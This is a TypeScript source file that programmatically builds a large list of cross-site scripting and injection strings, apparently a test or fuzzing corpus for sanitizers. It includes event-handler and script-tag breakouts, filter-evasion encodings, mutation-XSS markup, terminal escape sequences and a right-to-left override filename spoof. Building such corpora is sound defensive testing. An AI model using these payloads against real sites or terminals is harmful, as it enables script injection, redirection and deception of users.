// Strings of strangers, who would rather be more than text.

const scripts = ["alert(1)", "fetch`//x`", "location='//x'"];
const handlers = [
  "onload",
  "onerror",
  "onclick",
  "onmouseover",
  "onfocus autofocus",
  "ontoggle",
  "onbegin",
  "onpageshow",
];
const tags = [
  "img src=x",
  "svg",
  "body",
  "details open",
  "video src=x",
  "iframe src=x",
  "input",
  "animate",
  "marquee",
  "math",
];
/** Ways out of where a string stands, and what would come in. */
const ways = [
  ...["", '"', "'", "`", ">", '">', "'>", " x ", "</title>", "</style>", "</text></svg>", "</bdi></h1>", "--!>", "]]>"],
  ...["</textarea>", "\0", "\r\n\r\n"],
];
const guests = [
  "<img src=//x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<img\tsrc=x\fonerror=alert(1)//",
  " onload=alert(1) onmouseover=alert(1) style=background:url(//x) ",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
  "&lt;img src=x onerror=alert&#40;1&#41;&gt;",
  '<image xlink:href="//x" href="javascript:alert(1)"/>',
  "<template><script>alert(1)</script></template>",
  "<object data=//x><embed src=//x>",
];

/** Strings that would be something else than text where markup or a terminal took them as they are. */
export const payloads: readonly string[] = [
  ...tags.flatMap((tag) => handlers.map((handler) => `<${tag} ${handler.replace(/ |$/, "=alert(1) ")}>`)),
  ...scripts.flatMap((code) => [
    `<script>${code}</script>`,
    `"><script>${code}</script>`,
    `'><script>${code}</script>`,
    `</style><script>${code}</script>`,
    `</title><script>${code}</script>`,
    `]]><script>${code}</script>`,
    `--><script>${code}</script>`,
    `javascript:${code}`,
    `<a href="java\tscript:${code}">x</a>`,
    `" onmouseover="${code}" x="`,
    `\` onmouseover=${code} x=\``,
    `\${${code}}`,
  ]),
  ..."</bdi></mark></p>|<!--|--!>|<![CDATA[|<?xml?>|<!doctype x [<!entity y 'z'>]>&y;|&lt;script&gt;|&#60;script&#62;|&#x3c;b|&amp;lt;|&".split(
    "|",
  ),
  ..."<foreignObject><body>|<use href='#x'>|<image href=//x>|<set attributeName=href>|<style>*{background:url(//x)}</style>".split(
    "|",
  ),
  ..."<base href=//x>|<meta http-equiv=refresh content=0>|<link rel=stylesheet href=//x>|<plaintext>|<xmp>|<noscript>".split(
    "|",
  ),
  ...'#fff"/><script>|1;background:url(//x)|expression(alert(1))|\u003cscript\u003e|<\0script>|<scr\0ipt>|＜script＞|\u2028<b>'.split(
    "|",
  ),
  "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07",
  "\x1b[2J\x1b[H\x9b31m\x90q\x9c",
  "\x07\b\b\b\x7f\r\x0b\x0c",
  "\u202egnp.exe\u202c\u2066\u2069\u200f",
  "\ud800<b>\udc00",
  "\u{e0001}\u{e0073}\u{e0063}",
  ...ways.flatMap((way) => guests.map((guest) => way + guest)),
];
